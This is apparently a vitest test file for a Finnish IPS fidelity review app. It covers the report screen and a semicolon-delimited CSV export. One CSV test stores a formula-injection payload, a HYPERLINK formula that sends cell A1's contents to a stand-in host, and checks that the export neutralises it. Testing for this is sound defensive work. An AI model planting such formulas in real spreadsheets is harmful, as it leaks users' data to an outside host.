import { afterEach, describe, expect, it, vi } from 'vitest';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import Papa from 'papaparse';
import { Route } from 'wouter';
import { db } from '../../../src/db/app-db';
import { loadDemo } from '../../../src/db/repos/demo';
import { setRatingNotes, setRatingScore } from '../../../src/db/repos/ratings';
import { createReview } from '../../../src/db/repos/reviews';
import { setReviewerScore, startReviewerRating } from '../../../src/db/repos/reviewer-ratings';
import { createService } from '../../../src/db/repos/services';
import { listRatings, listReviewsOfService } from '../../../src/db/queries';
import { listReviewerRatingRecords } from '../../../src/db/reviewer-ratings';
import { ReportScreen } from '../../../src/features/report/report-screen';
import { renderScreen } from '../../render';
import { reviewDraft, serviceDraft } from '../../fixtures/records';
import { demoDayFi } from '../../demo-dates';
import { withEmptyAppDb } from '../../fixtures/app-db';

const NOW = new Date('2025-03-10T09:00:00.000Z');

function routes() {
  return <Route path="/reviews/:reviewId/report">{(p) => <ReportScreen reviewId={p.reviewId} />}</Route>;
}

/** The demo's 2022 review (91 points; 83 in 2021). */
async function demoReviewId(): Promise<string> {
  const [serviceId] = await loadDemo(db, 'fi', NOW);
  const [latest] = await listReviewsOfService(db, serviceId!);
  return latest!.id;
}

/** Captures what downloadFile hands to the browser: the file name and the Blob's text. */
function captureDownloads() {
  const blobs: Blob[] = [];
  const names: string[] = [];
  URL.createObjectURL = vi.fn((blob: Blob) => {
    blobs.push(blob);
    return 'blob:test';
  });
  URL.revokeObjectURL = vi.fn();
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    names.push(this.download);
  });
  return { blobs, names };
}

withEmptyAppDb();

afterEach(async () => {
  vi.restoreAllMocks();
});

describe('the fidelity report', () => {
  it('shows the total, band, 74-point line, sections, 25 items, grouped recommendations and the change since 2021', async () => {
    const reviewId = await demoReviewId();
    await renderScreen(routes(), { path: `/reviews/${reviewId}/report` });
    await screen.findByRole('heading', { level: 1, name: 'IPS-laatuarvioinnin raportti' });

    expect(screen.getByTestId('report-total')).toHaveTextContent('91');
    expect(screen.getByTestId('report-band')).toHaveTextContent('Kohtalainen menetelmällinen tarkkuus');
    expect(screen.getByTestId('report-band')).not.toHaveTextContent('alustava');
    expect(screen.getByTestId('report-line')).toHaveTextContent('17 pistettä yli 74 pisteen rajan.');
    expect(screen.getByTestId('report-line')).toHaveTextContent('Alle 74 pisteen palvelu ei ole IPS-työhönvalmennusta.');
    expect(screen.getAllByTestId('report-section-row')).toHaveLength(3);
    expect(screen.getAllByTestId('report-item-row')).toHaveLength(25);
    expect(screen.getAllByTestId('report-item-row')[0]).toHaveTextContent('S1Asiakasmäärä5');
    // The printed pages are numbered in the report's language (the @page margin box reads this).
    expect(document.documentElement.style.getPropertyValue('--report-page-number')).toBe('"sivu " counter(page) " / " counter(pages)');

    const groups = screen.getAllByTestId('report-priority-group').map((g) => g.dataset.priority);
    expect(groups.length).toBeGreaterThan(0);
    expect(groups).toEqual(['high', 'medium', 'low'].filter((p) => groups.includes(p)));

    expect(screen.getByTestId('report-change-total')).toHaveTextContent('Kokonaispistemäärä 83 → 91 (+8).');
    const changed = screen.getAllByTestId('report-changed-item');
    expect(changed.length).toBeGreaterThan(0);
    const organization1 = changed.find((row) => row.dataset.item === 'organization-1');
    expect(organization1).toHaveTextContent('23+1');

    // The evidence figures stored when the review was finalised, beside the score given.
    const evidence = within(screen.getByTestId('report-evidence'));
    expect(
      evidence.getByText(`ajalta ${demoDayFi('2021-10-11', NOW)} – ${demoDayFi('2022-10-10', NOW)}`, { exact: false }),
    ).toBeInTheDocument();
    const rows = evidence.getAllByRole('row').slice(1);
    expect(rows).toHaveLength(6);
    expect(rows[0]).toHaveTextContent(
      'S1 AsiakasmääräAsiakasmäärä 18,3 asiakasta henkilötyövuotta kohdenPerustuu 88 asiakkaaseen, jotka olivat asiakkaina jakson viimeisenä päivänä55',
    );
  });

  it('is written in English when English is chosen, whatever the app language', async () => {
    const reviewId = await demoReviewId();
    await renderScreen(routes(), { path: `/reviews/${reviewId}/report` });
    await userEvent.selectOptions(await screen.findByLabelText('Raportin kieli'), 'en');
    const report = await screen.findByTestId('report');
    await waitFor(() => expect(report).toHaveAttribute('lang', 'en'));
    expect(within(report).getByRole('heading', { level: 1 })).toHaveTextContent('IPS fidelity review report');
    expect(screen.getByTestId('report-line')).toHaveTextContent('17 points above the 74-point line.');
    expect(screen.getAllByTestId('report-item-row')[0]).toHaveTextContent('S1Caseload size5');
    // The toolbar stays in the app's language.
    expect(screen.getByRole('button', { name: 'Tulosta / tallenna PDF:ksi' })).toBeInTheDocument();
  });

  it('opens the print dialog from the print button', async () => {
    const reviewId = await demoReviewId();
    const print = vi.spyOn(window, 'print').mockImplementation(() => undefined);
    await renderScreen(routes(), { path: `/reviews/${reviewId}/report` });
    await userEvent.click(await screen.findByRole('button', { name: 'Tulosta / tallenna PDF:ksi' }));
    expect(print).toHaveBeenCalledTimes(1);
  });

  it('says so when the review does not exist', async () => {
    await renderScreen(routes(), { path: '/reviews/nope/report' });
    expect(await screen.findByRole('heading', { name: 'Tietoa ei löytynyt. Se on ehkä poistettu.' })).toBeInTheDocument();
  });
});

describe('the CSV export', () => {
  it('downloads both reviewers, the consensus and neutralised notes, with a BOM and semicolons', async () => {
    const serviceId = await createService(db, serviceDraft({ name: 'Työvalmennus Ääri' }), NOW);
    const reviewId = await createReview(db, serviceId, reviewDraft({ reviewers: ['Aino', 'Bea'] }), NOW);
    await startReviewerRating(db, reviewId, 'reviewer-1', NOW);
    await startReviewerRating(db, reviewId, 'reviewer-2', NOW);
    const own = await listReviewerRatingRecords(db, reviewId);
    const pick = (reviewerId: string) => own.find((r) => r.reviewerId === reviewerId && r.itemId === 'staffing-2')!;
    await setReviewerScore(db, pick('reviewer-1').id, 2, NOW);
    await setReviewerScore(db, pick('reviewer-2').id, 4, NOW);
    const consensus = (await listRatings(db, reviewId)).find((r) => r.itemId === 'staffing-2')!;
    await setRatingScore(db, consensus.id, 3, NOW);
    await setRatingNotes(db, consensus.id, '=HYPERLINK("http://x?d="&A1)', NOW);

    const downloads = captureDownloads();
    await renderScreen(routes(), { path: `/reviews/${reviewId}/report` });
    await userEvent.click(await screen.findByRole('button', { name: 'Lataa pisteet (CSV)' }));
    await screen.findByTestId('csv-done');

    expect(downloads.names).toEqual(['fidelio-tyovalmennus-aari-2026-11-10.csv']);
    const bytes = new Uint8Array(await downloads.blobs[0]!.arrayBuffer());
    expect(downloads.blobs[0]!.type).toBe('text/csv;charset=utf-8');
    // The UTF-8 byte order mark, so that Excel reads ä and ö right (Blob.text() would strip it).
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    const rows = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
    expect(rows[0]).toEqual([
      'Tunnus',
      'Osa-alue',
      'Nro',
      'Kohta',
      'Pisteet: Aino',
      'Pisteet: Bea',
      'Yhteisarvio',
      'Havainnot',
      'Tietolähteet',
      'Suositukset',
    ]);
    // 25 items, then the three section subtotals and the total (docs/csv-columns.md).
    expect(rows).toHaveLength(30);
    expect(rows[2]?.slice(0, 8)).toEqual([
      'staffing-2',
      'Henkilöstö',
      '2',
      'Keskittyminen työhönvalmennukseen',
      '2',
      '4',
      '3',
      `'=HYPERLINK("http://x?d="&A1)`,
    ]);
    expect(rows.slice(26).map((row) => row[0])).toEqual(['section:staffing', 'section:organization', 'section:services', 'total']);
  });
});
